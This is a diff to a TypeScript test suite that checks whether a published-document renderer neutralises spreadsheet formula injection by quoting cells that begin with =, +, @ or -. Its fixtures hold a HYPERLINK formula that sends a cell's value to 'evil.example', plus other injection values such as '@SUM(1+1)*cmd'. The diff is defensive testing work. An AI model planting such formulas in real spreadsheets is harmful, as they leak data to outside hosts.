@@ -8,6 +8,7 @@ const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
 
 function hostile(): TargetTable {
   const t = structuredClone(TABLE_1);
+  t.name = '=1+1 调解仲裁';
   t.purpose = '@SUM(1+1)*cmd';
   t.indicators[0]!.description = FORMULA;
   t.indicators[0]!.basis = "'=already quoted";
@@ -27,6 +28,9 @@ describe('the published text never hands a spreadsheet a formula', () => {
     expect(cells).toContain("'+1+1");
     expect(cells).toContain("''=already quoted");
     expect(cells).toContain('-5');
+    // The heading starts with `#`: its name is printed as is, so the title still matches the name.
+    expect(text).toContain('## 1、=1+1 调解仲裁绩效目标表');
+    expect(cells).toContain("'=1+1 调解仲裁");
     expect(cells.filter((c) => /^[=+@]/.test(c) || (/^-/.test(c) && !/^-[\d.]+%?$/.test(c)))).toEqual([]);
   });
 
@@ -34,6 +38,8 @@ describe('the published text never hands a spreadsheet a formula', () => {
     const again = parsePublished(renderDocument(doc(hostile())));
     expect(again.problems).toEqual([]);
     const t = again.projects[0]!;
+    expect(t.name).toBe('=1+1 调解仲裁');
+    expect(t.source.title).toBe('=1+1 调解仲裁');
     expect(t.purpose).toBe('@SUM(1+1)*cmd');
     expect(t.indicators[0]!.description).toBe(FORMULA);
     expect(t.indicators[0]!.basis).toBe("'=already quoted");
